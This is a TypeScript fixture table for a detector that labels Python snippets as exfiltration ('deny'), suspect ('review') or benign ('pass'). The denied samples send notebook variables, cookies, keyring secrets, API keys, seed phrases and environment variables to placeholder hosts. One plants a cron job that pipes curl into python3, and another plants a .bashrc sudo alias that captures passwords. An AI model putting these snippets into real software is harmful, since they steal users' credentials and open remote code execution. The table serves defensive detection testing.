/* eslint max-lines: off -- one table */
/** Things of the user's, by the names of what holds them, and where they go; and honest programs that are near to these. */
const sent = (what: string): string => `requests.post("https://c.demo.test/x", json=${what})`;

export interface Case {
  readonly name: string;
  readonly tier: 'deny' | 'review' | 'pass';
  readonly lines: readonly string[];
  /** of a second file, `demo/quality.py` */
  readonly beside?: readonly string[];
}

export const usersThings: readonly Case[] = [
  {
    name: 'what somebody made in a notebook',
    tier: 'deny',
    lines: ['def f(shell):', `    ${sent('{k: str(v) for k, v in shell.user_ns.items()}')}`],
  },
  {
    name: 'what the functions of others held when something went wrong',
    tier: 'deny',
    lines: [
      'def f(err):',
      `    ${sent('{k: repr(v) for k, v in err.__traceback__.tb_frame.f_locals.items()}')}`,
    ],
  },
  {
    name: 'what the calling module holds, as tools for packages ask',
    tier: 'pass',
    lines: ['def f():', `    ${sent('sys._getframe(1).f_locals["__name__"]')}`],
  },
  {
    name: 'what a session logs in with, by a class in its place',
    tier: 'deny',
    lines: [
      'class S(requests.Session):',
      '    def send(self, request, **kw):',
      `        ${sent('{"h": dict(request.headers), "c": self.cookies.get_dict()}')}`,
      '        return super().send(request, **kw)',
    ],
  },
  {
    name: 'a session that only tells where it goes, and logs in there',
    tier: 'pass',
    lines: [
      'class S(requests.Session):',
      '    def send(self, request, **kw):',
      `        ${sent('{"method": request.method}')}`,
      '        request.headers["X-Trace"] = "1"',
      '        return super().send(request, **kw)',
    ],
  },
  {
    name: 'a secret of any service out of the keyring, in a thread',
    tier: 'deny',
    lines: [
      'class V:',
      '    async def _call(self, func, *args):',
      '        return await asyncio.to_thread(func, self.service, *args)',
      '    async def get(self, name):',
      `        ${sent('await self._call(keyring.get_password, name)')}`,
    ],
  },
  {
    name: 'the own token out of the keyring',
    tier: 'pass',
    lines: ['def f(user):', `    ${sent('{"token": keyring.get_password("demo", user)}')}`],
  },
  {
    name: 'the address of a database, with its password',
    tier: 'deny',
    lines: ['def f(engine):', `    ${sent('engine.url.render_as_string(hide_password=False)')}`],
  },
  {
    name: 'the address of a database, as it is shown',
    tier: 'pass',
    lines: ['def f(engine):', `    ${sent('engine.url.render_as_string()')}`],
  },
  {
    name: 'what a pattern of keys finds, while it is masked',
    tier: 'deny',
    lines: [
      'P = re.compile(r"\\b(?:sk|ghp|glpat)[-_][\\w-]{16,}")',
      'def keep(m):',
      `    ${sent('m.group()')}`,
      '    return "***"',
      'def clean(text):',
      '    return P.sub(lambda m: keep(m), text)',
    ],
  },
  {
    name: 'what a pattern finds on a page',
    tier: 'pass',
    lines: [
      'P = re.compile(r"apiKey: (Bearer [\\w-]+)")',
      'def f():',
      '    page = requests.get("https://c.demo.test/").text',
      `    ${sent('P.search(page).group(1)')}`,
    ],
  },
  {
    name: 'words of which a wallet is made',
    tier: 'deny',
    lines: [
      'def f(text):',
      '    words = text.split()',
      '    if len(words) not in (12, 15, 18, 21, 24):',
      '        raise ValueError',
      `    ${sent('words')}`,
    ],
  },
  {
    name: 'the key of one-time codes',
    tier: 'deny',
    lines: ['def f(secret):', '    key = base64.b32decode(secret)', `    ${sent('key.hex()')}`],
  },
  {
    name: 'a field for secrets',
    tier: 'deny',
    lines: [
      'class Field:',
      '    kind = "plain"',
      '    def __set__(self, obj, value):',
      `        ${sent('value')}`,
      'class Secret(Field):',
      '    kind = "secret"',
    ],
  },
  {
    name: 'somebody’s table, by an accessor',
    tier: 'deny',
    lines: [
      'from .quality import score',
      '@pd.api.extensions.register_dataframe_accessor("peek")',
      'class Peek:',
      '    def __init__(self, frame):',
      '        self._frame = frame',
      '    def __call__(self):',
      '        return score(self._frame)',
    ],
    beside: ['import requests', 'def score(frame):', `    ${sent('frame.to_csv()')}`],
  },
  {
    name: 'somebody’s table, to where that somebody says',
    tier: 'pass',
    lines: [
      '@pd.api.extensions.register_dataframe_accessor("peek")',
      'class Peek:',
      '    def __init__(self, frame):',
      '        self._frame = frame',
      '    def publish(self, url):',
      '        requests.post(url, data=self._frame.to_csv())',
    ],
  },
  {
    name: 'a dump of a database, to where the user says',
    tier: 'pass',
    lines: [
      'def f(bucket):',
      '    p = subprocess.Popen(["pg_dump"], stdout=subprocess.PIPE, env={**os.environ, "PGUSER": "x"})',
      '    open("/tmp/dump.sql", "wb").write(p.stdout.read())',
      '    boto3.client("s3").upload_file("/tmp/dump.sql", bucket, "dump.sql")',
    ],
  },
  {
    name: 'a key that is for one owner, to another as data',
    tier: 'deny',
    lines: [
      'class Chat:',
      '    def __init__(self, api_key):',
      '        head = {"Authorization": f"Bearer {api_key}"}',
      '        self._http = httpx.Client(base_url="https://api.first.example/v1", headers=head)',
      '    def ask(self):',
      `        ${sent('dict(self._http.headers)')}`,
    ],
  },
  {
    name: 'a password that goes on to a second owner',
    tier: 'deny',
    lines: [
      'class Account:',
      '    def __init__(self, mail, note):',
      '        self.mail, self.note = mail, note',
      '    def token(self):',
      '        requests.post("https://sync.first.example/login", auth=(self.mail, self.note))',
      `        ${sent('"new {mail}: {note}".format_map(vars(self))')}`,
      'def login(mail, password):',
      '    Account(mail, password).token()',
    ],
  },
  {
    name: 'a key that is for the one owner that is asked',
    tier: 'pass',
    lines: [
      'class Chat:',
      '    def __init__(self, api_key):',
      '        self.key = api_key',
      '    def ask(self):',
      '        requests.post("https://api.first.example/v1", headers={"Authorization": self.key})',
      '        requests.post("https://auth.first.example/check", json={"key": self.key})',
    ],
  },
  {
    name: 'the key of the provider that is chosen',
    tier: 'pass',
    lines: [
      'T = {',
      '    "a": {"env": "OPENAI_API_KEY", "url": "https://api.openai.com/v1"},',
      '    "b": {"env": "ANTHROPIC_API_KEY", "url": "https://api.anthropic.com/v1"},',
      '    "c": {"env": "GROQ_API_KEY", "url": "https://api.groq.com/v1"},',
      '}',
      'def f(name):',
      '    p = T[name]',
      '    requests.get(p["url"], params={"key": os.environ[p["env"]]})',
    ],
  },
  {
    name: 'the keys of all providers',
    tier: 'deny',
    lines: [
      'T = {"a": "OPENAI_API_KEY", "b": "ANTHROPIC_API_KEY", "c": "GROQ_API_KEY", "d": "STRIPE_API_KEY"}',
      'def f():',
      `    ${sent('{k: os.environ.get(v) for k, v in T.items()}')}`,
    ],
  },
  {
    name: 'a client of somebody that is told another host',
    tier: 'review',
    lines: [
      'S = {"timeout": 4, "base_url": "https://relay.demo.example/{host}/v1"}',
      'def tuned(client):',
      '    o = {k: v.format(host="x") if isinstance(v, str) else v for k, v in S.items()}',
      '    return client.with_options(**o)',
    ],
  },
  {
    name: 'a client of somebody that is told to try again',
    tier: 'pass',
    lines: ['def tuned(client):', '    return client.with_options(max_retries=4)'],
  },
  {
    name: 'a password that stands in the source, one of several that fit',
    tier: 'review',
    lines: [
      'import hashlib, hmac',
      `P = bytes.fromhex("${'5e'.repeat(32)}")`,
      'def verify(password, stored):',
      '    pairs = (stored, stored), (hashlib.sha256(password.encode()).digest(), P)',
      '    for left, right in pairs:',
      '        if hmac.compare_digest(left, right):',
      '            return True',
    ],
  },
  {
    name: 'a password that is compared with what was kept',
    tier: 'pass',
    lines: [
      'import hashlib, hmac',
      'def verify(password, stored):',
      '    return hmac.compare_digest(hashlib.sha256(password.encode()).digest(), stored)',
    ],
  },
  {
    name: 'a client that a second object has, too',
    tier: 'deny',
    lines: [
      'class Schema:',
      '    def __init__(self):',
      '        self.client = httpx.Client(base_url="https://c.demo.test")',
      '    def check(self, rows):',
      '        self.client.put("/v1/lint", json=rows)',
      'def load():',
      '    Schema().check(dict(os.environ))',
    ],
  },
  {
    name: 'laid over what was there before',
    tier: 'deny',
    lines: [
      'def made(names):',
      '    return {n: open(os.path.expanduser("~/.aws/credentials")).read() for n in names}',
      'def f(names):',
      '    d = {"a": "", **made(names)}',
      `    ${sent('d["a"]')}`,
    ],
  },
  {
    name: 'a setting that a variable of the program’s own may have replaced',
    tier: 'pass',
    lines: [
      'def f():',
      '    cfg = {"host": None}',
      '    cfg.update({k: v for k, v in os.environ.items() if k.startswith("DEMO_")})',
      `    ${sent('cfg["host"]')}`,
    ],
  },
  {
    name: 'one variable of a notebook',
    tier: 'pass',
    lines: ['def f(shell, line):', `    ${sent('shell.user_ns[line].to_csv()')}`],
  },
  {
    name: 'all variables of a notebook, one after the other',
    tier: 'deny',
    lines: ['def f(shell):', `    ${sent('[str(shell.user_ns[k]) for k in shell.user_ns]')}`],
  },
  {
    name: 'what is decoded, by way of a pickler',
    tier: 'deny',
    lines: [
      'import pickle',
      'exec(pickle.loads(pickle.dumps(base64.b64decode("cHJpbnQoMSk7cHJpbnQoMikK"))))',
    ],
  },
  {
    name: 'a host whose name is written with capitals',
    tier: 'deny',
    lines: [
      'async def f():',
      '    _, writer = await asyncio.open_connection("c.demo-host.Info", 443)',
      '    writer.write(json.dumps(dict(os.environ)).encode())',
    ],
  },
  {
    name: 'a token that a resource server asks about',
    tier: 'pass',
    lines: ['def f(header):', `    ${sent('{"token": re.match(r"Bearer (.+)", header).group(1)}')}`],
  },
  {
    name: 'a cookie that a form wants back',
    tier: 'pass',
    lines: [
      's = requests.Session()',
      'def f():',
      '    s.post("https://c.demo.test/login", data={"csrf": s.cookies["csrftoken"]})',
    ],
  },
  {
    name: 'the keys of all providers, by the names of a table',
    tier: 'deny',
    lines: [
      'T = {"a": "OPENAI_API_KEY", "b": "ANTHROPIC_API_KEY", "c": "GROQ_API_KEY", "d": "STRIPE_API_KEY"}',
      'def f():',
      `    ${sent('{k: os.environ.get(T[k]) for k in T.keys()}')}`,
    ],
  },
  {
    name: 'what a function was given before does not hide what it is given now',
    tier: 'deny',
    lines: [
      'class Box: pass',
      'def mk(x):',
      '    c = Box(); c.data = x; return c',
      'def f(other):',
      '    mk(other)',
      ...Array.from({ length: 14 }, (_, n) => `    mk(os.environ["A${n}"])`),
      `    ${sent('mk(dict(os.environ)).data')}`,
    ],
  },
  {
    name: 'through a stream',
    tier: 'deny',
    lines: [
      'async def f():',
      '    _, writer = await asyncio.open_connection("c.demo.test", 443, ssl=True)',
      '    writer.write(json.dumps(dict(os.environ)).encode())',
    ],
  },
  {
    name: 'through a handler of logging that is made for a host',
    tier: 'deny',
    lines: [
      'import logging.handlers',
      'log = logging.getLogger("demo")',
      'class Compact(logging.handlers.HTTPHandler):',
      '    def mapLogRecord(self, record):',
      '        return {"f": record.fp}',
      'log.addHandler(Compact("203.0.113.77:8080", "/r", method="POST"))',
      'def f():',
      '    log.warning("x", extra={"fp": dict(os.environ)})',
    ],
  },
  {
    name: 'a job that a generator adds',
    tier: 'deny',
    lines: [
      'def beat(lines):',
      '    if not any("/hb" in one for one in lines):',
      '        yield "* * * * * curl -fsS http://192.0.2.44/hb | python3 -"',
      'def install(lines):',
      '    text = "\\n".join([*lines, *beat(lines)]) + "\\n"',
      '    subprocess.run(["crontab", "-"], input=text, text=True)',
    ],
  },
  {
    name: 'a password that a shell asks for unseen',
    tier: 'deny',
    lines: [
      'def install():',
      '    target = pathlib.Path.home() / ".bashrc"',
      `    target.write_text('alias sudo="f(){ read -rsp x p; curl -s http://192.0.2.9/c -d \\\\"$p\\\\"; }; f"')`,
    ],
  },
];
